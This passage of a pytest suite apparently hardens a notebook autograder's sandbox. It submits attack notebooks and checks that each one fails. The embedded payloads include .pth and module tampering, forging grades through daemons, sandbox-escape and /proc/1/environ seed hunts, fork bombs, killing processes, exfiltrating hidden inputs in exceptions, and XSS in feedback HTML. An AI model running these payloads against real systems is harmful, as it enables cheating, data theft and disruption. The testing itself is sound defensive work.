"""A determined student against ``segedu grade`` (issue 9), through the real pipeline.

One ``segedu grade --jobs 2`` run grades exercise 01 for honest classmates graded before, between
and after a set of attacks. Each attack is a submission whose answer cells try one thing a student
who has read ``segedu/`` would try: raise its own score without a correct answer, read what it must
not (solutions, the gradebook, classmates, the seed, hidden inputs), change someone else's grade,
outlive its kernel, or stop the run. Every test states the outcome the grading contract promises:
its own points only, classmates untouched, nothing left running, nothing read or written outside
its folder. The attack code is plain Python in the notebooks below; the fixes are in
``segedu/instructor/sandbox.py``, ``verdict.py`` and ``grade.py``.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import re
import subprocess
import textwrap
import sys
import time
from pathlib import Path

import nbformat
import pytest

from segedu.instructor import sandbox
from segedu.instructor.notebooks import fill_in, solution_answers

pytestmark = [pytest.mark.nbgrader, pytest.mark.attacks,
              pytest.mark.skipif(sandbox.detect()[0] == sandbox.NONE, reason="needs the bubblewrap sandbox")]

ROOT = Path(__file__).resolve().parents[1]
A = "01_thresholding"
RELEASE = nbformat.read(ROOT / "exercises" / A / f"{A}.ipynb", as_version=4)
ANSWERS = solution_answers(nbformat.read(ROOT / "solutions" / A / f"{A}.ipynb", as_version=4))
STUBS = {c.metadata.nbgrader["grade_id"]: c.source for c in RELEASE.cells
         if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
FULL = 9.0
SEED = "8675309123"
DAEMON_MARK = "3127.25"      # `sleep 3127.25` started by the daemon attack: must not survive
MEMORY_MB = 1000
RUNNER = ROOT / "segedu" / "grading" / "kernel" / "segedu_kernel_runner.py"


def _nb(answers=None, **replace):
    answers = dict(ANSWERS if answers is None else answers)
    answers.update(replace)
    return fill_in(RELEASE, answers)


def _stubs(first_cell_code: str):
    """Every answer left as the stub, with the attack in the first answer cell."""
    return _nb(dict(STUBS), threshold=first_cell_code + "\n" + STUBS["threshold"])


def _correct(first_cell_code: str):
    """Every answer right, with the attack in the first answer cell."""
    return _nb(threshold=first_cell_code + "\n" + ANSWERS["threshold"])


def _bytes(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def _site_packages() -> list[str]:
    import site

    return [p for p in site.getsitepackages() if os.path.isdir(p)]


def _attacks(out: Path, subs: Path) -> dict[str, tuple[str, object, str]]:
    """student id -> (what it tries, notebook or raw bytes, expected outcome key)."""
    forge = repr(str(out / "grades.csv"))
    writer = f'''
import os, sys, glob, numpy
written = []
folders = {_site_packages()!r} + [os.path.dirname(numpy.__file__), {str(ROOT / "segedu")!r},
           {str(ROOT / "segedu" / "grading")!r}, os.path.dirname(os.__file__), sys.prefix, {str(out)!r},
           {str(out / ".work" / "course")!r}]
for folder in folders:
    try:
        with open(os.path.join(folder, "zz_segedu_attack.pth"), "w") as handle:
            handle.write("import os; os.environ['SEGEDU_ATTACKED'] = '1'\\n")
        written.append(folder)
    except OSError:
        pass
for path in glob.glob(os.path.join(os.path.dirname(numpy.__file__), "*.py"))[:1] + [{str(RUNNER)!r}]:
    try:
        open(path, "a").write("\\n# attacked\\n")
        written.append(path)
    except OSError:
        pass
try:
    import segedu_kernel_runner
    open(segedu_kernel_runner.__file__, "a").write("\\n# attacked\\n")
    written.append("runner")
except OSError:
    pass
'''
    daemon = f'''
import subprocess, sys
subprocess.Popen(["sleep", "{DAEMON_MARK}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\n"
                  "time.sleep(15)\\nopen({forge}, 'w').write('forged')\\n"], start_new_session=True)
'''
    escape = f'''
import glob, os, subprocess, json
for command in (["umount", "-l", "/tmp"], ["umount", "-l", "/"], ["unshare", "-r", "true"],
                ["mount", "-t", "tmpfs", "x", "/tmp"]):
    try:
        subprocess.run(command, capture_output=True, timeout=5)
    except OSError:
        pass
patterns = [{str(ROOT / "solutions")!r} + "/**/*.ipynb", {str(out)!r} + "/**/*.ipynb", {str(out)!r} + "/**/gradebook.db",
            {str(subs)!r} + "/*", "/root/**/solutions/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb"]
stolen = [p for pattern in patterns for p in glob.glob(pattern, recursive=True) if os.path.isfile(p)]
for path in stolen:
    if path.endswith(".ipynb"):
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            text = "".join(cell["source"])
            if "### BEGIN SOLUTION" in text:
                exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''
    hooks = '''
ip = get_ipython()
def clear_error(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("post_run_cell", clear_error)
ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("segedu_kernel_runner" in l for l in lines) else lines)
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
np.isclose = lambda *a, **k: np.ones(np.broadcast(*a[:2]).shape, bool)
np.allclose = np.array_equal = lambda *a, **k: True
import builtins
builtins.AssertionError = type("Silent", (Exception,), {})
'''
    runner = '''
import json, os, sys, types
fake = types.ModuleType("segedu_kernel_runner")
def run(grade_id):
    folder = os.path.join(os.environ.get("SEGEDU_KERNEL_IO", "."), "out", grade_id)
    os.makedirs(folder, exist_ok=True)
    for index in range(40):
        json.dump({"t": "float", "v": "0.5"} if "otsu" in grade_id else {"t": "bool", "v": True},
                  open(os.path.join(folder, f"{index}.json"), "w"))
fake.run = run
sys.modules["segedu_kernel_runner"] = fake
'''
    malformed = '''
import json, os
io = os.environ.get("SEGEDU_KERNEL_IO", ".")
def plant(grade_id, index, how):
    folder = os.path.join(io, "out", grade_id)
    os.makedirs(folder, exist_ok=True)
    path = os.path.join(folder, f"{index}.json")
    if how == "link":
        os.symlink("/etc/passwd", path)
    elif how == "deep":
        open(path, "w").write('{"t": "list", "v": [' * 5000 + ']}' * 5000)
    elif how == "huge":
        open(path, "w").write(" " * (3 << 20))
    elif how == "pickle":
        np.save(os.path.join(folder, "0_1.npy"), np.array([object()], dtype=object), allow_pickle=True)
        json.dump({"t": "array", "f": "0_1.npy"}, open(path, "w"))
    elif how == "escape":
        json.dump({"t": "array", "f": "../../in/test_threshold_0a_1.npy"}, open(path, "w"))
for grade_id, how in [("test_threshold", "link"), ("test_otsu_bimodal", "deep"), ("test_otsu_real_image", "huge"),
                      ("test_adaptive_mean", "pickle"), ("test_adaptive_gaussian", "escape")]:
    try:
        plant(grade_id, 0, how)
    except OSError:
        pass
import segedu_kernel_runner
segedu_kernel_runner.run = lambda grade_id: None    # keep the planted results
'''
    frames = '''
import inspect, gc
class Spy(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __array__(self, *args, **kwargs):
        for frame in inspect.stack():
            for value in frame.frame.f_locals.values():
                if isinstance(value, np.ndarray) and value.dtype == bool:
                    return value
        for value in gc.get_objects():
            if isinstance(value, np.ndarray) and value.dtype == bool:
                return value
        return np.zeros(1, bool)
def threshold(img, t):
    return Spy(1.0)
'''
    delegate = '''
def otsu_threshold(img, nbins=256):
    try:
        from skimage.filters import threshold_otsu
        return float(threshold_otsu(img, nbins))
    except ImportError:
        from segedu.classical import otsu_threshold as reference
        return reference(img, nbins)
def adaptive_threshold(img, block_size, offset=0, method="mean"):
    from segedu.classical import adaptive_threshold as reference
    return reference(img, block_size, offset=offset, method=method)
'''
    leak = '''
import os
def threshold(img, t):
    print("LEAK" + "-PRINTED", np.asarray(img).tolist())
    import sys
    print("LEAK" + "-STDERR", t, file=sys.stderr)
    environ = dict(os.environ)
    try:
        environ["proc1"] = open("/proc/1/environ", "rb").read().decode(errors="replace")
    except OSError:
        pass
    raise ValueError("SEEDHUNT " + repr(environ))
'''
    neighbours = '''
import glob, os, socket
own = os.environ.get("SEGEDU_KERNEL_IO", "")
others = [p for p in glob.glob("/tmp/sg-*") + glob.glob("/tmp/*/ipc/*") + glob.glob("/tmp/kernel-*.json")
          if own and not p.startswith(own)]
others += [p for p in (''' + repr(str(out)) + ", " + repr(str(subs)) + ''') if os.path.exists(p)]
processes = [p for p in os.listdir("/proc") if p.isdigit()]
reached = 0
for path in glob.glob("/tmp/sg-*/ipc/*"):
    if not path.startswith(own):
        try:
            s = socket.socket(socket.AF_UNIX); s.connect(path); reached += 1
        except OSError:
            pass
def threshold(img, t):
    raise ValueError(f"NEIGHBOURS {len(others)} REACHED {reached} PROCS {len(processes)}")
'''
    memory = '''
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(400 * 1024 * 1024)
        block[::4096] = b"x" * len(block[::4096])
        time.sleep(60)
        os._exit(0)
    children.append(pid)
time.sleep(25)
'''
    filler = '''
import os
chunk = b"x" * (16 << 20)
for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(os.path.join(folder, "fill"), "wb") as handle:
            for _ in range(256):
                handle.write(chunk)
    except OSError:
        pass
    try:
        os.remove(os.path.join(folder, "fill"))
    except OSError:
        pass
try:
    os.symlink(''' + forge + ''', "01_thresholding.ipynb")
except OSError:
    pass
'''
    forkbomb = '''
import os, time
started = 0
try:
    while started < 4000:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        started += 1
except OSError:
    pass
'''
    killer = '''
import os, signal
for pid in range(2, 200):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''
    exfiltrate = '''
import base64, glob, json, os
io = os.environ.get("SEGEDU_KERNEL_IO", "")
stolen = "EXFIL[" + ";".join(base64.b64encode(open(p, "rb").read()).decode() for p in sorted(glob.glob(io + "/in/*"))) + "]"
folder = os.path.join(io, "out", "test_otsu_bimodal")
os.makedirs(folder, exist_ok=True)
json.dump({"t": "error", "type": "ValueError", "message": stolen}, open(os.path.join(folder, "0.json"), "w"))
import segedu_kernel_runner
real_run = segedu_kernel_runner.run
segedu_kernel_runner.run = lambda grade_id: None if grade_id == "test_otsu_bimodal" else real_run(grade_id)
def threshold(img, t):
    raise type(stolen, (Exception,), {})("see the type name")
'''
    amplify = '''
import json, os
folder = os.path.join(os.environ.get("SEGEDU_KERNEL_IO", "."), "out", "test_adaptive_offset")
os.makedirs(folder, exist_ok=True)
np.save(os.path.join(folder, "big.npy"), np.ones(8_000_000 - 32))
json.dump({"t": "list", "v": [{"t": "array", "f": "big.npy"}] * 50}, open(os.path.join(folder, "0.json"), "w"))
import segedu_kernel_runner
segedu_kernel_runner.run = lambda grade_id: None
'''
    folders = '''
import os, time
base = os.path.join(os.environ.get("SEGEDU_KERNEL_IO", "."), "out", "dirs")
os.makedirs(base, exist_ok=True)
try:
    for i in range(250_000):
        os.mkdir(os.path.join(base, str(i)))
except OSError:
    pass
time.sleep(3)
'''
    memfds = '''
import os, time
held, chunk = [], b"x" * (16 << 20)
for i in range(12):
    fd = os.memfd_create(f"m{i}")
    for _ in range(15):
        os.write(fd, chunk)
    held.append(fd)
time.sleep(3)
'''
    forger = '''
import os, signal
os.write(2, b"[ERROR] segedu-sandbox: failed: forged\\n")
os.write(1, b"segedu-sandbox: failed: forged\\n")
os.kill(os.getpid(), signal.SIGKILL)
'''
    xss = copy.deepcopy(_correct("from IPython.display import HTML, display, Javascript\n"
                                 "display(HTML('<script>window.xss' + 'Output = 1</script><b>xss' + '-output</b>'))\n"))
    xss.cells.insert(1, nbformat.v4.new_markdown_cell(
        '<script>window.xssMarkdown = 1</script> <img src=x onerror="window.xssImg = 1"> '
        '[click me](javascript:window.xssLink=1)'))
    deep = '{"cells": ' + "[" * 100_000 + "]" * 100_000 + ', "nbformat": 4, "nbformat_minor": 5, "metadata": {}}'
    meta_string = json.loads(nbformat.writes(_nb()))
    for cell in meta_string["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "threshold":
            cell["metadata"]["nbgrader"] = "grade me"
        elif cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_otsu_bimodal":
            cell["metadata"]["nbgrader"]["grade_id"] = ["test_otsu_bimodal"]
    return {
        "2001": ("write into the package, the venv, the interpreter, OUT", _stubs(writer), "zero"),
        "2002": ("a setsid daemon that forges grades.csv later", _stubs(daemon), "zero"),
        "2003": ("undo the sandbox, read solutions/gradebooks/classmates", _stubs(escape), "zero"),
        "2004": ("IPython hooks, input transformers, custom exceptions, numpy and builtins patched", _stubs(hooks), "zero"),
        "2005": ("replace the kernel runner with one that writes 'right-looking' results", _stubs(runner), "zero"),
        "2006": ("plant links, deep JSON, huge files, pickles, path escapes as results", _stubs(malformed), "zero"),
        "2007": ("an answer that reads the expected value out of the checker's frames", _stubs(frames), "zero"),
        "2008": ("delegate to skimage / segedu", _nb(**{k: v for k, v in _delegate_answers(delegate).items()}), "delegate"),
        "2009": ("print hidden inputs, hunt the seed in the environment", _nb(threshold=leak), "leak"),
        "2010": ("look for neighbours' sockets, files and processes", _nb(threshold=neighbours), "neighbours"),
        "2011": ("forked children over the memory limit", _correct(memory), "memory"),
        "2012": ("fill /tmp, /dev/shm and the working folder; plant a symlink", _correct(filler), "full"),
        "2013": ("fork bomb", _correct(forkbomb), "survives"),
        "2014": ("kill every process it can see", _correct(killer), "crash"),
        "2015": ("script in Markdown and in outputs", xss, "full"),
        "2016": ("a notebook nested 100,000 levels deep", deep.encode(), "malformed"),
        "2017": ("nbgrader metadata a string, a grade_id a list", json.dumps(meta_string).encode(), "full"),
        "2018": ("paste the public reference's code", _nb(otsu_threshold=_pasted_reference()), "review"),
        "2019": ("javascript links hidden behind entities and escapes", _with_markdown(
            "Sentinel2019 [a](&#106;avascript:window.xssA=1) [b](javascript\\:window.xssB=1) [c][r]\n\n"
            "[r]: java&#x73;cript:window.xssC=1\n"), "full"),
        "2020": ("carry every hidden input out in an exception's type name and a long message",
                 _stubs(exfiltrate), "zero"),
        "2021": ("one result pointing 50 times at a 64 MB array", _stubs(amplify), "zero"),
        "2022": ("hundreds of thousands of empty folders in out/", _correct(folders), "disk"),
        "2023": ("memory in memfds, outside every RSS", _correct(memfds), "memory"),
        "2024": ("forge the sandbox's failure line in the grader's log, then die", _correct(forger), "crash"),
    }


def _with_markdown(text: str):
    notebook = _correct("")
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(text))
    return notebook


def _pasted_reference() -> str:
    """segedu's Otsu, copied into the answer with its helpers and renamed variables."""
    import inspect

    from segedu.classical import thresholding

    code = inspect.getsource(thresholding.otsu_threshold).replace("centres", "mids").replace("hist", "counts_")
    return "from segedu._validation import *\n" + code


def _delegate_answers(code: str) -> dict:
    return {"otsu_threshold": code, "adaptive_threshold": STUBS["adaptive_threshold"]}


HONEST = {"1000": "good", "1500": "good", "1998": "wrong", "1999": "good"}


def _honest(student: str):
    if HONEST[student] == "wrong":   # the classic slip: >= instead of >
        return _nb(threshold=ANSWERS["threshold"].replace("img > t", "img >= t"))
    return _nb()


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    if marker.encode() in handle.read():
                        found.append(int(entry))
            except OSError:
                continue
    return found


def _kernel_uid_processes() -> list[int]:
    """Processes of the uids segedu grade gives kernels (61000 and up): none may outlive grading."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/status") as handle:
                    uid = next(int(line.split()[1]) for line in handle if line.startswith("Uid:"))
            except (OSError, StopIteration, ValueError):
                continue
            if 61000 <= uid < 62000:
                found.append(int(entry))
    return found


def _hashes(paths) -> dict:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    subs, out = base / "download", base / "out"
    subs.mkdir()
    attacks = _attacks(out, subs)
    for student, (_, notebook, _) in attacks.items():
        data = notebook if isinstance(notebook, bytes) else _bytes(notebook)
        (subs / f"attacker_{student}_9{student}_{A}.ipynb").write_bytes(data)
    for student in HONEST:
        (subs / f"honest_{student}_9{student}_{A}.ipynb").write_bytes(_bytes(_honest(student)))
    watched = [RUNNER, *sorted((ROOT / "segedu").rglob("*.py"))]
    before = _hashes(watched)
    env = dict(os.environ, SEGEDU_GRADING_SEED=SEED)
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")
    start = time.perf_counter()
    result = subprocess.run([sys.executable, "-m", "segedu.instructor", "--course", str(ROOT), "grade", A, str(subs),
                             "--out", str(out), "--timeout", "20", "--memory-mb", str(MEMORY_MB), "--jobs", "2"],
                            capture_output=True, text=True, env=env, timeout=1500)
    seconds = time.perf_counter() - start
    assert result.returncode == 0, result.stdout + result.stderr
    print(f"\n{len(attacks) + len(HONEST)} submissions graded with --jobs 2 in {seconds:.0f} s")
    time.sleep(1)
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    return dict(out=out, subs=subs, rows=rows, attacks=attacks, stdout=result.stdout, before=before,
                after=_hashes(watched), grades_csv=(out / "grades.csv").read_text())


def _feedback(attacked, student: str) -> str:
    path = attacked["out"] / "feedback" / student / A / f"{A}.html"
    return path.read_text(encoding="utf-8") if path.exists() else ""


def test_every_student_has_a_row_and_honest_classmates_are_untouched(attacked):
    rows = attacked["rows"]
    assert set(rows) == set(attacked["attacks"]) | set(HONEST)
    for student, kind in HONEST.items():
        row = rows[student]
        assert float(row["score"]) == (FULL - 1 if kind == "wrong" else FULL), row
        assert row["status"] == "ok", row


@pytest.mark.parametrize("student", ["2001", "2002", "2003", "2004", "2005", "2006", "2007"])
def test_no_attack_earns_points_without_a_correct_answer(attacked, student):
    row = attacked["rows"][student]
    assert float(row["score"]) == 0, (attacked["attacks"][student][0], row)


def test_nothing_outside_the_kernel_was_written(attacked):
    assert attacked["before"] == attacked["after"], "a file of segedu changed during grading"
    planted = [os.path.join(folder, "zz_segedu_attack.pth") for folder in _site_packages()]
    planted += [str(ROOT / "segedu" / "zz_segedu_attack.pth"), str(attacked["out"] / "zz_segedu_attack.pth")]
    assert not [p for p in planted if os.path.exists(p)]
    assert "forged" not in attacked["grades_csv"]


def test_no_process_outlives_its_kernel(attacked):
    assert _processes_with(DAEMON_MARK) == []
    assert _kernel_uid_processes() == []
    time.sleep(16)   # the daemon's forged write would have happened by now
    assert (attacked["out"] / "grades.csv").read_text() == attacked["grades_csv"]


def test_delegation_is_impossible_in_the_kernel(attacked):
    row = attacked["rows"]["2008"]
    # threshold right (1 point); every Otsu and adaptive point lost: neither skimage nor segedu imports
    assert float(row["score"]) == 1, row
    html = _feedback(attacked, "2008")
    assert "ModuleNotFoundError" in html or "ImportError" in html


def test_hidden_inputs_and_seed_never_reach_feedback(attacked):
    row = attacked["rows"]["2009"]
    assert float(row["score"]) == FULL - 1, row
    html = _feedback(attacked, "2009")
    assert "SEEDHUNT" in html                    # the student's own error message is shown ...
    assert SEED not in html                      # ... and the kernel's environment had no seed
    assert "LEAK-PRINTED" not in html and "LEAK-STDERR" not in html   # what the answer printed is not shown
    assert "BEGIN HIDDEN" not in html and "ex.rng(" not in html and "hidden=True" not in html
    for student in attacked["rows"]:
        assert SEED not in _feedback(attacked, student)


def test_kernels_cannot_see_each_other(attacked):
    html = _feedback(attacked, "2010")
    assert "NEIGHBOURS 0 REACHED 0" in html, html[-3000:]


def test_memory_of_forked_children_counts(attacked):
    row = attacked["rows"]["2011"]
    assert "memory limit exceeded" in row["status"] and float(row["score"]) == 0, row


def test_filling_tmp_and_planting_links_costs_nothing_else(attacked):
    row = attacked["rows"]["2012"]
    assert float(row["score"]) == FULL and row["status"] == "ok", row


def test_fork_bomb_is_bounded(attacked):
    row = attacked["rows"]["2013"]
    # hundreds of forked kernels: stopped by the process limit, then by the memory of the whole tree
    assert "memory limit exceeded" in row["status"] or "kernel crashed" in row["status"], row


def test_killing_everything_kills_only_itself(attacked):
    row = attacked["rows"]["2014"]
    assert "kernel crashed" in row["status"] and float(row["score"]) == 0, row


def test_student_markup_is_sanitised_in_feedback(attacked):
    row = attacked["rows"]["2015"]
    assert float(row["score"]) == FULL, row
    html = _feedback(attacked, "2015")
    # the student's markup survives only as escaped text: no element, no handler, no script link
    assert "<script>window.xss" not in html and "<img src=x" not in html and 'href="javascript:' not in html
    assert "xss-output" not in html and "window.xssOutput" not in html   # their HTML output is gone


def test_broken_files_cost_only_their_row(attacked):
    rows = attacked["rows"]
    assert rows["2016"]["status"].startswith("malformed notebook") and float(rows["2016"]["score"]) == 0
    assert float(rows["2017"]["score"]) == FULL, rows["2017"]


def test_pasted_reference_is_held_for_review(attacked):
    row = attacked["rows"]["2018"]
    assert "needs review" in row["status"] and "close to the reference" in row["status"], row
    assert "must be looked at by a person" in attacked["stdout"] and "2018" in attacked["stdout"].split(
        "must be looked at by a person")[1]


def test_escaped_javascript_links_are_not_links(attacked):
    row = attacked["rows"]["2019"]
    assert float(row["score"]) == FULL, row
    html = _feedback(attacked, "2019")
    assert "Sentinel2019" in html   # the student's text is there ...
    assert 'href="javascript' not in html.lower() and "href='javascript" not in html.lower()   # ... no link


def test_feedback_cannot_carry_hidden_inputs_out(attacked):
    row = attacked["rows"]["2020"]
    assert float(row["score"]) == 0, row
    html = _feedback(attacked, "2020")
    # at most the first 300 characters of the student's own message are shown, then "[...]"
    carried = re.findall(r"EXFIL\[([A-Za-z0-9+/=;]*)", html)
    assert carried and max(len(c) for c in carried) <= 300, [len(c) for c in carried]
    assert len(html) < 200_000, len(html)


def test_results_are_read_within_a_budget(attacked):
    row = attacked["rows"]["2021"]
    # graded (0 points, not a crash), and held for review: its code touches the kernel's runner
    assert float(row["score"]) == 0 and "crash" not in row["status"], row
    assert "needs review: touches the grading kernel's modules" in row["status"], row


def test_disk_counts_folders_and_memory_counts_memfds(attacked):
    rows = attacked["rows"]
    assert "disk limit exceeded" in rows["2022"]["status"] and float(rows["2022"]["score"]) == 0, rows["2022"]
    assert "memory limit exceeded" in rows["2023"]["status"] and float(rows["2023"]["score"]) == 0, rows["2023"]


def test_a_kernel_cannot_write_the_graders_log(attacked):
    row = attacked["rows"]["2024"]
    assert row["status"].startswith("kernel crashed"), row
    log = (attacked["out"] / ".work" / "students" / "2024" / "nbgrader.log").read_text(errors="replace")
    assert "forged" not in log


def test_summary_lists_every_problem(attacked):
    stdout = attacked["stdout"]
    assert "isolation: bubblewrap" in stdout
    for student, row in attacked["rows"].items():
        if row["status"] != "ok":
            assert f"{student} (" in stdout


# ----------------------------------------------------------------------------- a torch unit

def _grade_class(base: Path, assignment: str, notebooks: dict) -> dict:
    """``segedu grade`` (sandboxed, two jobs) on ``{student_id: notebook}``; the rows of grades.csv by student."""
    subs, out = base / "download", base / "out"
    subs.mkdir()
    for student, notebook in notebooks.items():
        (subs / f"s_{student}_9{student}_{assignment}.ipynb").write_bytes(_bytes(notebook))
    env = dict(os.environ, SEGEDU_GRADING_SEED=SEED)
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")
    result = subprocess.run([sys.executable, "-m", "segedu.instructor", "--course", str(ROOT), "grade", assignment,
                             str(subs), "--out", str(out), "--jobs", "2"], capture_output=True, text=True, env=env,
                            timeout=900)
    assert result.returncode == 0, result.stdout + result.stderr
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        return {row["student_id"]: row for row in csv.DictReader(handle)}


B = "05_fcn"


@pytest.fixture(scope="module")
def attacked_torch(tmp_path_factory):
    """Exercise 05, where torch is the tool: segedu.models and torchvision are still out of reach."""
    base = tmp_path_factory.mktemp("attacks05")
    release = nbformat.read(ROOT / "exercises" / B / f"{B}.ipynb", as_version=4)
    answers = solution_answers(nbformat.read(ROOT / "solutions" / B / f"{B}.ipynb", as_version=4))
    delegating = dict(answers, bilinear_kernel=(
        "def bilinear_kernel(in_ch, out_ch, k):\n"
        "    try:\n"
        "        from segedu.models import bilinear_kernel as reference\n"
        "    except ImportError:\n"
        "        import torchvision.models.segmentation.fcn as reference\n"
        "    return reference(in_ch, out_ch, k)\n"))
    patching = dict(answers, linear_to_conv_weight=(
        "import sys, types\n"
        "sys.modules['segedu_kernel_runner'] = types.SimpleNamespace(run=lambda grade_id: None)\n"
        "torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)\n"
        "def linear_to_conv_weight(weight, in_channels, height, width):\n"
        "    return torch.zeros(1)\n"))
    return _grade_class(base, B, {"3000": fill_in(release, answers), "3001": fill_in(release, delegating),
                                  "3002": fill_in(release, patching)})


def test_torch_unit_delegation_and_runner_patching_earn_nothing(attacked_torch):
    rows = attacked_torch
    assert float(rows["3000"]["score"]) == 7 and rows["3000"]["status"] == "ok", rows["3000"]
    assert float(rows["3001"]["score"]) == 7 - 2, rows["3001"]    # bilinear_kernel: neither import works
    assert float(rows["3002"]["score"]) == 0, rows["3002"]        # no results saved: every cell fails


# ----------------------------------------------------------------------------- a torch peer inside torch

C = "07_segnet"


@pytest.fixture(scope="module")
def attacked_unpooling(tmp_path_factory):
    """Exercise 07 forbids torch's unpooling kernel but not torch: the sandbox cannot hide it, so the
    kernel's tripwire (loaded by path, since segedu is hidden there) must catch every route to it."""
    base = tmp_path_factory.mktemp("attacks07")
    release = nbformat.read(ROOT / "exercises" / C / f"{C}.ipynb", as_version=4)
    answers = solution_answers(nbformat.read(ROOT / "solutions" / C / f"{C}.ipynb", as_version=4))
    header = "def max_unpool2d(x, indices, kernel_size, stride=None, output_size=None):\n"
    routes = {
        "4001": header + "    return F.max_unpool2d(x, indices, kernel_size, stride, output_size=output_size)\n",
        "4002": header + ("    size = output_size or ((x.shape[-2] - 1) * (stride or kernel_size) + kernel_size,\n"
                          "                           (x.shape[-1] - 1) * (stride or kernel_size) + kernel_size)\n"
                          "    return torch.ops.aten.max_unpool2d(x, indices, list(size[-2:]))\n"),
        "4003": header + ("    import sys\n"
                          "    sys.setprofile(None)\n"
                          "    return torch.nn.MaxUnpool2d(kernel_size, stride)(x, indices, output_size=output_size)\n"),
        # the tripwire lives in the student's process: switch it off, then call torch (the kernel guard
        # has removed torch's unpooling before any student code ran)
        "4004": ("import segedu_tripwire\n"
                 "segedu_tripwire.Tripwire._hook = lambda self, *args: None\n"
                 + header + "    return F.max_unpool2d(x, indices, kernel_size, stride, output_size=output_size)\n"),
        # a runner of one's own, which calls the answer without any watch
        "4005": ("import segedu_kernel_runner, contextlib\n"
                 "segedu_kernel_runner._watch = lambda forbidden: contextlib.nullcontext(None)\n"
                 + header + "    return torch.nn.MaxUnpool2d(kernel_size, stride)(x, indices, output_size=output_size)\n"),
        # torch's pure-Python decomposition, which no C kernel check would see
        "4006": ("import segedu_tripwire, torch._decomp.decompositions as decompositions\n"
                 "segedu_tripwire.Tripwire._hook = lambda self, *args: None\n"
                 + header + ("    size = output_size or ((x.shape[-2] - 1) * (stride or kernel_size) + kernel_size,\n"
                             "                           (x.shape[-1] - 1) * (stride or kernel_size) + kernel_size)\n"
                             "    return decompositions.max_unpool2d(x, indices, list(size[-2:]))\n")),
        # C++ operator handles, which run no Python frame the tripwire could see (found by reviewer R1):
        # the .out overload of the unpooling kernel, and max-pooling's backward, which scatters a
        # gradient to the indices it is given
        "4007": ("_unpool = torch._C._get_operation_overload('aten::max_unpool2d', 'out')[0]\n" + header + (
            "    size = output_size or ((x.shape[-2] - 1) * (stride or kernel_size) + kernel_size,\n"
            "                           (x.shape[-1] - 1) * (stride or kernel_size) + kernel_size)\n"
            "    return _unpool(x, indices, list(size[-2:]), out=torch.empty(0, dtype=x.dtype))\n")),
        "4008": ("_backward = torch._C._get_operation_overload('aten::max_pool2d_with_indices_backward', '')[0]\n"
                 + header + (
            "    stride = kernel_size if stride is None else stride\n"
            "    size = output_size or ((x.shape[-2] - 1) * stride + kernel_size, (x.shape[-1] - 1) * stride + kernel_size)\n"
            "    def scatter(values):\n"
            "        return _backward(values, torch.zeros(*x.shape[:2], *size[-2:], dtype=x.dtype), [kernel_size] * 2,\n"
            "                         [stride] * 2, [0, 0], [1, 1], False, indices)\n"
            "    return scatter(x) / scatter(torch.ones_like(x)).clamp(min=1)\n")),
    }
    notebooks = {"4000": fill_in(release, answers)}
    notebooks.update({student: fill_in(release, dict(answers, max_unpool2d=code)) for student, code in routes.items()})
    return _grade_class(base, C, notebooks)


def test_torch_stays_importable_where_only_its_kernel_is_forbidden():
    from segedu.instructor import grade

    assert "torch" not in grade.hidden_modules(C) and "segedu" in grade.hidden_modules(C)


def test_unpooling_by_torch_earns_nothing_in_the_sandbox(attacked_unpooling):
    rows = attacked_unpooling
    assert float(rows["4000"]["score"]) == 7 and rows["4000"]["status"] == "ok", rows["4000"]
    # the decoder stage calls the student's own max_unpool2d, so it fails with it
    for student in ("4001", "4002", "4003", "4004", "4005", "4006", "4007", "4008"):
        assert float(rows[student]["score"]) == 0, (student, rows[student])


# ----------------------------------------------------------------------------- torch's convolutions

D = "08_deeplab"


@pytest.fixture(scope="module")
def attacked_convolution(tmp_path_factory):
    """Exercise 08 forbids every convolution in torch, which answers still import: the kernel guard has
    switched those operators off before any student code runs, whatever the student patches."""
    base = tmp_path_factory.mktemp("attacks08")
    release = nbformat.read(ROOT / "exercises" / D / f"{D}.ipynb", as_version=4)
    answers = solution_answers(nbformat.read(ROOT / "solutions" / D / f"{D}.ipynb", as_version=4))
    stubs = {c.metadata.nbgrader["grade_id"]: c.source for c in release.cells
             if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
    header = "def dilated_conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):\n"
    silence = "import segedu_tripwire\nsegedu_tripwire.Tripwire._hook = lambda self, *args: None\n"
    routes = {
        "5001": silence + header + "    return F.conv2d(x, weight, bias, stride, padding, dilation)\n",
        "5002": ("import segedu_kernel_runner, contextlib\n"
